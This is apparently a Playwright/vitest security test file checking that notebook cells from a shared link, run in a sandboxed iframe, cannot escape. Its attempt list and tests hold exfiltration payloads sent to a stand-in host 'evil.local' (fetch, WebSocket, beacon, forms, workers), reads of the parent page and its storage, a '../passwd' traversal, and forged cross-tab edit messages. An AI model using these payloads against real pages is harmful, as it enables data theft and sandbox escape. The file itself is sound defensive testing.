import {createServer} from "node:http";
import type {AddressInfo} from "node:net";
import type {Frame, Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {arrive, frameOf, linkWith, runApart} from "./apart.ts";
import {chain, openAt, settled} from "./chapter.ts";
import {launchChromium} from "./chromium.ts";
import {adopt, expectProblem, openPage, serveFiles, site, visit} from "./harness.ts";
import {edit, reads, stored} from "./reader.ts";

/** What a cell from a link answers, as text: the value of an async function's body, or the name of what it threw. */
const cell = (body: string) =>
  `{const answer = await (async () => {${body}})().then(String, (error) => error.name);\ndisplay(html\`<p>\${answer}</p>\`);}`;

/** Requests that a host elsewhere has heard. Its name leads to this machine, and its port is known once it listens. */
const heard: string[] = [];
const elsewhere = createServer((request, response) => {
  heard.push(request.url ?? "");
  response.writeHead(200, {"Content-Type": "text/html", "Access-Control-Allow-Origin": "*"}).end("<title>elsewhere</title>");
});
elsewhere.on("upgrade", (request, socket) => {
  heard.push(request.url ?? "");
  socket.destroy();
});
const OTHER = "http://evil.local:0/?secret";
const known = (text: string) => text.replaceAll("evil.local:0", `evil.local:${(elsewhere.address() as AddressInfo).port}`);
beforeAll(() => new Promise<void>((done) => elsewhere.listen(0, "127.0.0.1", done)));
afterAll(() => elsewhere.close());

/** The book's first page on a server that sends no headers. */
async function servePlain(): Promise<string> {
  const from = await site();
  const read = async (path: string) => {
    const response = await fetch(new URL(path, from));
    return response.ok ? new Uint8Array(await response.arrayBuffer()) : null;
  };
  return `${await serveFiles(read, "/", false)}index.html`;
}

/** Everything that a browser says of what the policy and the sandbox have refused. */
const refused =
  /request to another host: http:\/\/evil\.local|Content Security Policy|sandboxed|Unsafe attempt|Not allowed to|Failed to execute|net::ERR_|permission|policy/i;

/** Runs a cell from a link; resolves with its answer. */
async function attack(body: string): Promise<{page: Page; frame: Frame; url: string; answer: string}> {
  const {page, url} = await arrive({mine: cell(known(body))});
  expectProblem(page, refused);
  const frame = await runApart(page);
  const answer = (await frame.locator('[data-cell="mine"] > .cell-output p').textContent()) ?? "";
  return {page, frame, url, answer};
}

/** The book and its next visit are as if nothing had been: one page, its own address, its own text, nothing stored. */
async function untouched(page: Page, url: string): Promise<void> {
  expect(page.url().replace(/#.*/, "")).toBe(url);
  expect(page.context().pages()).toHaveLength(1);
  expect(heard).toEqual([]);
  await page.goto("about:blank");
  await page.goto(url);
  await settled(page);
  await reads(page, "c", "21");
  const kept = await page.evaluate(async () => {
    const storage = [...Object.keys(localStorage), ...Object.keys(sessionStorage)];
    const databases = (await indexedDB.databases()).map(({name}) => name).filter((name) => name !== "gantry");
    const workers = await navigator.serviceWorker.getRegistrations();
    return [
      ...storage,
      ...databases,
      ...(await caches.keys()),
      ...workers.map(({scope}) => scope),
      document.cookie,
      document.title
    ];
  });
  // The page itself notes that it knows of all edits.
  expect(kept).toEqual(["gantry:marks", "", "Chapter"]);
}

const TRIED: readonly (readonly [what: string, body: string, answer?: string | RegExp])[] = [
  [
    "writes to the caches",
    'await (await globalThis.caches.open("x")).put("/tensors.html", new Response("forged"))',
    "SecurityError"
  ],
  [
    "writes to IndexedDB",
    'return await new Promise((done, fail) => { const r = indexedDB.open("x"); r.onsuccess = () => done("open"); r.onerror = () => fail(r.error); })',
    "SecurityError"
  ],
  ["writes to localStorage", 'localStorage.setItem("gantry:edits:/chapter", "1")', "SecurityError"],
  ["writes to sessionStorage", 'sessionStorage.setItem("x", "1")', "SecurityError"],
  ["sets a cookie", 'document.cookie = "x=1"', "SecurityError"],
  ["registers a service worker", 'await navigator.serviceWorker.register("sw.js")', /SecurityError|TypeError|NotSupportedError/],
  ["starts a shared worker", `new SharedWorker(URL.createObjectURL(new Blob(["1"])))`, "SecurityError"],
  ["takes a private folder", "await navigator.storage.getDirectory()", /SecurityError|TypeError/],
  ["reads the book", "return globalThis.parent.document.title", "SecurityError"],
  ["reads the book's storage", "return globalThis.parent.localStorage.length", "SecurityError"],
  ["writes to the clipboard", 'await navigator.clipboard.writeText("x")', /NotAllowedError|TypeError/],
  ["opens a dialog", 'globalThis.alert("x"); globalThis.print(); return globalThis.prompt("Your password")', "null"],
  ["opens a window", `return globalThis.open("${OTHER}")`, "null"],
  ["moves the book's window", `globalThis.top.location = "${OTHER}"`, "SecurityError"],
  ["moves the book's window, otherwise", `globalThis.top.location.replace("${OTHER}")`, "SecurityError"],
  ["asks another host", `await fetch("${OTHER}")`, "TypeError"],
  ["asks another host for a script", `await import("${OTHER}")`, "Error"],
  ["asks one of the hosts with MNIST", 'await fetch("https://storage.googleapis.com/cvdf-datasets/mnist/?secret")', "TypeError"],
  [
    "opens a socket",
    `return await new Promise((done) => { const s = new WebSocket("ws://evil.local:0/"); s.onopen = () => done("open"); s.onerror = () => done("refused"); })`,
    "refused"
  ],
  [
    "makes a call",
    "return [typeof globalThis.RTCPeerConnection, typeof globalThis.webkitRTCPeerConnection].join()",
    "undefined,undefined"
  ],
  ["asks the book for a file that is none of its own", 'return (await fetch("licences.txt")).status', "404"],
  [
    "asks the book for a file outside",
    'return (await fetch(new URL("/", document.baseURI).href + "%2e%2e/passwd")).status',
    "404"
  ],
  ["evaluates text", 'return (0, eval)("1")', "EvalError"],

  [
    "an image",
    `const i = new Image(); await new Promise((done, fail) => { i.onload = done; i.onerror = () => done("refused"); i.src = "${OTHER}"; }); return "refused"`
  ],
  ["a font", `await new FontFace("x", "url(${OTHER})").load()`, "NetworkError"],
  [
    "a sound",
    `return await new Promise((done) => { const a = new Audio("${OTHER}"); a.onerror = () => done("refused"); a.oncanplay = () => done("loaded"); a.load(); })`
  ],
  [
    "a style",
    `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${OTHER}"; return await new Promise((done) => { l.onload = () => done("loaded"); l.onerror = () => done("refused"); document.head.append(l); })`
  ],
  [
    "a prefetched page",
    `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${OTHER}"; document.head.append(l); return "refused"`
  ],
  ["a beacon", `navigator.sendBeacon("${OTHER}", "x"); return "refused"`],
  [
    "a frame of the book's own text without a policy",
    `const f = document.createElement("iframe"); const loaded = new Promise((done) => (f.onload = done)); f.src = new URL("licences.txt", document.baseURI).href; document.body.append(f); await loaded; return f.contentDocument === null ? "refused" : "read"`
  ],
  ["an object", `const o = document.createElement("object"); o.data = "${OTHER}"; document.body.append(o); return "refused"`],
  [
    "a link that is clicked with a ping",
    `const a = document.createElement("a"); a.href = "#x"; a.ping = "${OTHER}"; document.body.append(a); a.click(); return "refused"`
  ],
  [
    "a click that opens the book's window",
    `const a = document.createElement("a"); a.href = "${OTHER}"; a.target = "_top"; a.addEventListener("click", (e) => e.stopPropagation()); document.body.append(a); a.click(); return "refused"`
  ],
  [
    "a form for the book's window",
    `document.body.insertAdjacentHTML("beforeend", '<form id="f" target="_top" action="${OTHER}"></form>'); document.forms.f.submit(); return "refused"`
  ],
  [
    "its worker",
    `const w = new Worker(URL.createObjectURL(new Blob(["const f = (p) => p.then(() => 'open', () => 'refused'); Promise.all([f(fetch('${OTHER}')), f((async () => caches.open('x'))()), f((async () => indexedDB.open('x'))()), f((async () => importScripts('${OTHER}'))())]).then((all) => postMessage(String(new Set(all).size === 1 ? all[0] : all)))"]))); return await new Promise((done) => (w.onmessage = ({data}) => done(data)))`
  ],
  [
    "the other tabs' channel",
    `new BroadcastChannel("gantry:edits:" + new URL("chapter", document.baseURI).pathname).postMessage({changed: [{id: "a", kind: "ts", original: null, text: "const a = 9;", ran: "const a = 9;"}], removed: [], decided: true}); return "refused"`
  ],
  ["a message to the book", `globalThis.parent.postMessage({edits: [], failed: "x", boot: "taken = 1"}, "*"); return "refused"`]
];

describe("a cell from a link, after Run", () => {
  const id = (what: string) => `tried-${TRIED.findIndex(([tried]) => tried === what)}`;
  let address = "";
  const dialogs: string[] = [];
  const attacked = visit(async () => {
    const {page, url} = await arrive(Object.fromEntries(TRIED.map(([what, body]) => [id(what), cell(known(body))])), {
      expect: [refused]
    });
    address = url;
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await runApart(page);
    return page;
  });

  it.each(TRIED.map(([what, , expected = "refused"]) => ({what, expected})))("$what: refused", async ({what, expected}) => {
    const frame = await frameOf(await attacked());
    const answer = await frame.locator(`[data-cell="${id(what)}"] > .cell-output p`).textContent();
    expect(answer).toMatch(typeof expected === "string" ? new RegExp(`^${expected}$`) : expected);
  });

  it("has changed nothing: neither the book, nor its next visit, nor what the browser keeps", async () => {
    const page = await attacked();
    expect(dialogs).toEqual([]);
    await untouched(page, address);
  });
});

describe("a cell from a link that runs alone", () => {
  it("(the host elsewhere, which none of the cells below reach, is there)", async () => {
    await openPage(known(OTHER));
    expect(heard.splice(0)[0]).toBe("/?secret");
    heard.length = 0;
  });

  it("finds no way to call in a frame within the frame, not even by the page's own first script", async () => {
    const script = `parent.postMessage(typeof RTCPeerConnection, "*")`;
    const {page, url, answer} = await attack(`
      const first = document.querySelector("head script").textContent;
      const source = URL.createObjectURL(new Blob([${JSON.stringify(script)}], {type: "text/javascript"}));
      const heard = [];
      const turns = async (count) => { while (count-- > 0) await new Promise(requestAnimationFrame); };
      globalThis.addEventListener("message", ({data}) => heard.push(data));
      const blank = document.createElement("iframe");
      document.body.append(blank);
      try { heard.push(typeof blank.contentWindow.RTCPeerConnection) } catch {}
      for (const text of ["<script>" + first + "<" + "/script>", "<script src=" + source + "><" + "/script>", "<script>${script.replaceAll('"', "'")}<" + "/script>"]) {
        const f = document.createElement("iframe");
        const loaded = new Promise((done) => (f.onload = done));
        f.srcdoc = text;
        document.body.append(f);
        await Promise.race([loaded, turns(10)]);
        f.contentWindow.postMessage({boot: ${JSON.stringify(script)}}, "*");
      }
      await turns(50);
      return heard.join() || "nothing";`);
    expect(answer).toBe("nothing");
    await untouched(page, url);
  });

  it.each([
    ["an address", `globalThis.location.href = "${OTHER}"`],
    ["an address of the book", 'globalThis.location.href = new URL("licences.txt", document.baseURI).href'],
    ["a refresh", `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=${OTHER}">')`],
    [
      "a form",
      `document.body.insertAdjacentHTML("beforeend", '<form id="f" action="${OTHER}"></form>'); document.forms.f.submit()`
    ],
    [
      "a link",
      `const out = document.createElement("a"); out.href = "${OTHER}"; out.addEventListener("click", (e) => e.stopPropagation()); document.body.append(out); out.click()`
    ],
    [
      "a file to download from there",
      `const out = document.createElement("a"); out.href = "${OTHER}"; out.download = "x"; document.body.append(out); out.click()`
    ],
    ["a page made up", 'globalThis.location.href = URL.createObjectURL(new Blob(["<p>x"], {type: "text/html"}))'],
    ["a reload", "globalThis.location.reload()"]
  ])("that leaves by %s ends its own run: no host hears of it, and the book stays", async (_what, body) => {
    const {page, url} = await arrive({mine: `${known(body)};`});
    expectProblem(page, refused);
    await page.getByRole("button", {name: "Run the changes"}).click();
    await page.getByText("A cell tried to leave the page, so the run has ended.").first().waitFor();
    expect(page.frames()).toHaveLength(1);
    await page.getByRole("button", {name: "Back to my book"}).click();
    await page.getByRole("group", {name: "mine, changed by this link, not run"}).waitFor();
    await untouched(page, url);
  });

  it("cannot take the book's window back to where it came from", async () => {
    const {page, url} = await arrive({});
    await page.goto(`${url}?before`);
    await page.goto(
      await linkWith(
        url,
        {
          mine: cell(
            'globalThis.history.back(); globalThis.history.go(-1); await new Promise(requestAnimationFrame); return "here"'
          )
        },
        chain
      )
    );
    await settled(page);
    const frame = await runApart(page);
    await frame.getByText("here", {exact: true}).first().waitFor();
    await frame.evaluate("new Promise((done) => requestAnimationFrame(() => requestIdleCallback(done)))");
    expect(page.url().replace(/#.*/, "")).toBe(url);
  });

  it("cannot speak with the page that opened the book, on a server that sends no headers", async () => {
    const opener = await openPage(known(OTHER), {expect: [refused]});
    heard.length = 0;
    const url = await servePlain();
    const answering = `
      globalThis.addEventListener("message", (event) => event.source.postMessage("secret", "*"));
      for (const stop of ["stopImmediatePropagation", "stopPropagation"]) Event.prototype[stop] = () => {};
      Object.defineProperty(MessageEvent.prototype, "source", {get: () => globalThis});
      try { globalThis.top.opener.postMessage("secret", "*"); } catch {}
      return "ran";`;
    const link = await linkWith(url, {mine: cell(answering)});
    const [book] = await Promise.all([
      opener.waitForEvent("popup"),
      opener.evaluate((address) => {
        const state = globalThis as unknown as {got: unknown[]; book: Window | null};
        state.got = [];
        addEventListener("message", ({data}) => state.got.push(data));
        state.book = open(address);
      }, link)
    ]);
    adopt(book);
    expectProblem(book, refused);
    await settled(book);
    const frame = await runApart(book);
    await frame.getByText("ran", {exact: true}).first().waitFor();
    // The page that opened it still has its hand on the frame; what it says is not heard there.
    await opener.evaluate("book.frames[0].postMessage('hello', '*')");
    for (const each of [frame, opener, frame, opener])
      await each.evaluate("new Promise((done) => setTimeout(() => requestAnimationFrame(done)))");
    expect(await opener.evaluate("got")).toEqual([]);
    expect(await opener.evaluate("book.closed")).toBe(false);
    await book.close();
  });

  it("gets nothing more when the reader clicks in it: no window, no other address, no clipboard", async () => {
    const {page, frame, url} = await attack(`
      const tried = [];
      const attempt = async (what) => { try { tried.push(String(await what())) } catch (error) { tried.push(error.name) } };
      const button = document.body.appendChild(Object.assign(document.createElement("button"), {textContent: "Press here"}));
      button.addEventListener("click", async () => {
        await attempt(() => globalThis.open("${OTHER}"));
        await attempt(() => (globalThis.top.location = "${OTHER}"));
        await attempt(() => navigator.clipboard.writeText("x"));
        await attempt(() => globalThis.parent.close());
        button.textContent = tried.join();
      });
      return "ready"`);
    await frame.getByRole("button", {name: "Press here"}).click();
    await frame.getByRole("button", {name: "null,SecurityError,NotAllowedError,undefined"}).waitFor();
    await untouched(page, url);
  });

  it("that floods the book with messages ends its own run", async () => {
    const {page, frame} = await attack("return 1");
    // A script of it, since a cell's loop is stopped before.
    const flood = `(() => { const own = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (...all) { globalThis.port = this; return own.apply(this, all); };
      apart$.store.write("", []);
      for (let i = 0; i < 60000; i++) own.call(globalThis.port, {link: true}); })()`;
    await frame.evaluate(flood);
    await page.getByText("A cell sent the book too many messages, so the run has ended.").first().waitFor();
    expect(await page.locator("iframe").count()).toBe(0);
  });

  it("has its text shown once more when it says that it is another: nothing runs in the book", async () => {
    const {page} = await attack(
      'apart$.store.write("", [{id: "b", edit: {id: "b", kind: "ts", original: null, text: "globalThis.taken = 1; const b = 1;", ran: "globalThis.taken = 1; const b = 1;"}}]); return 1'
    );
    await page.getByRole("button", {name: "Keep these changes"}).click();
    await page.getByRole("group", {name: "b, changed by this link, not run"}).waitFor();
    expect(await page.evaluate("globalThis.taken")).toBeUndefined();
  });

  it("leaves the reader's own changes as they were", async () => {
    const {page, url} = await arrive({});
    await edit(page, "b", "const b = 5;\ndisplay(b);");
    await stored(page, 1);
    const link = await linkWith(url, {mine: cell('for (const name of ["gantry"]) indexedDB.deleteDatabase(name); return 1')});
    const next = await openAt(link, {context: page.context()});
    await (await runApart(next)).getByText("SecurityError").first().waitFor();
    await page.reload();
    await settled(page);
    await reads(page, "c", "6");
  });
});

describe("in a frame that a browser gives a process of its own", () => {
  it("a script that never ends cannot keep the reader: Back takes it away", async () => {
    const browser = await launchChromium(["--site-per-process", "--enable-features=IsolateSandboxedIframes"]);
    try {
      const page = await browser.newPage();
      await page.goto(
        await linkWith(await site("index.html"), {mine: 'setTimeout(() => { document.title = "looping"; for (;;); });'})
      );
      await settled(page);
      await page.getByRole("button", {name: "Run the changes"}).click();
      await frameOf(page);
      await page.getByRole("button", {name: "Back to my book"}).click();
      await expect.poll(() => page.locator("iframe").count()).toBe(0);
      await page.getByRole("group", {name: "mine, changed by this link, not run"}).waitFor();
    } finally {
      await browser.close();
    }
  });
});
